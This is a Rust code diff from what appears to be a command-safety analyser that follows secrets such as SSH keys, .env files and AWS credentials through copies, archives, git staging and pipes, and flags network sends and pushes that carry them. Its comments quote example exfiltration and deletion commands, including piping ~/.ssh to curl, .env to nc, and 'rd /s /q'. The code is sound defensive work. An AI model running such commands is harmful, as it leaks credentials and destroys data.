@@ -133,20 +133,66 @@ pub(crate) fn run(sh: &mut Sh, argv: &[String], stdin: &Input) -> Input {
     // An archive, compression or encryption of secrets still carries them
     // (`tar czf - ~/.ssh | curl -T - …`, `gpg -c -o - .env | nc h 9`).
     let name = argv.first().map(|f| program_name(f)).unwrap_or("");
-    const PACKERS: &[&str] = &[
-        "tar", "bsdtar", "gtar", "zip", "7z", "7za", "7zz", "rar", "gzip", "pigz", "bzip2", "xz",
-        "zstd", "lz4", "lzma", "compress", "cpio", "pax", "openssl", "gpg", "gpg2", "age",
-    ];
-    if PACKERS.contains(&name)
-        && let Some(f) = argv
-            .get(1..)
-            .unwrap_or_default()
-            .iter()
-            .find(|a| !a.starts_with('-') && super::args::secret_path(a))
-    {
-        return super::args::file_input(f);
+    // So does any program that reads them and writes (`jq -r . ~/.aws/credentials`,
+    // `base64 -w0` or `grep key` behind `env |`): their output is judged a secret, which
+    // matters only where a network program sends it. A network program's own output is its
+    // answer (`openssl enc` is a cipher, not a client).
+    let args = argv.get(1..).unwrap_or_default();
+    let held = args
+        .iter()
+        .filter(|a| !a.starts_with('-'))
+        .find_map(|a| sh.secret_file(a));
+    if let Some(what) = &held {
+        copied_secret(sh, name, args, what);
     }
-    out
+    if is_secret(&out) || (super::args::NETWORK_SENDERS.contains(&name) && name != "openssl") {
+        return out;
+    }
+    let carried = held.or_else(|| match stdin {
+        Input::Unknown(what) => what
+            .strip_prefix(super::args::SECRET_INPUT)
+            .map(|w| w.trim_matches('`').to_string()),
+        _ => None,
+    });
+    match carried {
+        Some(what) => {
+            if name == "tee" {
+                for f in args.iter().filter(|a| !a.starts_with('-')) {
+                    sh.secret_files.push((f.clone(), what.clone()));
+                }
+            }
+            super::args::secret_input(&what)
+        }
+        None => out,
+    }
+}
+
+/// True if `input` is marked as carrying a secret.
+pub(crate) fn is_secret(input: &Input) -> bool {
+    matches!(input, Input::Unknown(what) if what.starts_with(super::args::SECRET_INPUT))
+}
+
+/// A secret copied into another file (`cp ~/.ssh/id_rsa docs/logo.txt`, `dd
+/// if=.env of=/tmp/x`) makes that file a secret; one staged in git (`git add` of it) is sent
+/// by a later push.
+fn copied_secret(sh: &mut Sh, name: &str, args: &[String], what: &str) {
+    let operands: Vec<&String> = args.iter().filter(|a| !a.starts_with('-')).collect();
+    match name {
+        "cp" | "mv" | "install" | "ln" | "rsync" | "ditto" => {
+            if let Some(dest) = operands.last() {
+                sh.secret_files.push(((*dest).clone(), what.to_string()));
+            }
+        }
+        "dd" => {
+            if let Some(dest) = args.iter().find_map(|a| a.strip_prefix("of=")) {
+                sh.secret_files.push((dest.to_string(), what.to_string()));
+            }
+        }
+        "git" if operands.first().is_some_and(|s| *s == "add") => {
+            sh.secret_staged = Some(what.to_string());
+        }
+        _ => {}
+    }
 }
 
 /// The Ruby code of `rails runner CODE`, `bin/rails r CODE`, `bundle exec rails runner CODE`
@@ -195,6 +241,22 @@ fn run_program(sh: &mut Sh, argv: &[String], stdin: &Input) -> Input {
             return out;
         }
     };
+    if super::args::NETWORK_SENDERS.contains(&name)
+        && let Input::Unknown(what) = stdin
+        && what.starts_with(super::args::SECRET_INPUT)
+    {
+        sh.add(Admin, format!("{cmd} sends {what} over the network"));
+    }
+    if name == "git"
+        && argv.iter().any(|a| a == "push")
+        && let Some(what) = &sh.secret_staged
+    {
+        let what = what.clone();
+        sh.add(
+            Admin,
+            format!("{cmd} pushes a commit that carries the secret `{what}`"),
+        );
+    }
     let prog = lookup(cat, name);
     if first.starts_with("./")
         || first.starts_with("../")
@@ -210,6 +272,7 @@ fn run_program(sh: &mut Sh, argv: &[String], stdin: &Input) -> Input {
             return out;
         }
         unknown(sh, name, args, stdin, &cmd);
+        cmd_builtin(sh, name, args);
         return out;
     };
     // GNU programs take unique abbreviations of long options (`tar --remove-f`); handlers
@@ -234,12 +297,6 @@ fn run_program(sh: &mut Sh, argv: &[String], stdin: &Input) -> Input {
         }
         None => args,
     };
-    if super::args::NETWORK_SENDERS.contains(&name)
-        && let Input::Unknown(what) = stdin
-        && what.starts_with(super::args::SECRET_INPUT)
-    {
-        sh.add(Admin, format!("{cmd} sends {what} over the network"));
-    }
     if forms::prints_and_exits(name, prog.handler, args) || forms::ssh_prints(name, args) {
         sh.add(
             Read,
@@ -365,6 +422,17 @@ fn run_program(sh: &mut Sh, argv: &[String], stdin: &Input) -> Input {
         }
         Handler::Ssh => files::run(sh, prog, name, args, stdin, &cmd),
         _ => files::run(sh, prog, name, args, stdin, &cmd),
+    }
+}
+
+/// A cmd.exe builtin written in a POSIX shell line (`rd /s /q C:\\inetpub` through a
+/// Windows host's Bash tool) is judged as cmd.exe would run it.
+fn cmd_builtin(sh: &mut Sh, name: &str, args: &[String]) {
+    let switch = |a: &String| a.len() == 2 && a.starts_with('/');
+    if matches!(name, "rd" | "del" | "erase" | "rmdir" | "format") && args.iter().any(switch) {
+        let text = format!("{name} {}", args.join(" "));
+        let depth = sh.depth;
+        windows::cmd_input(sh.ctx, &text, depth);
     }
 }
 
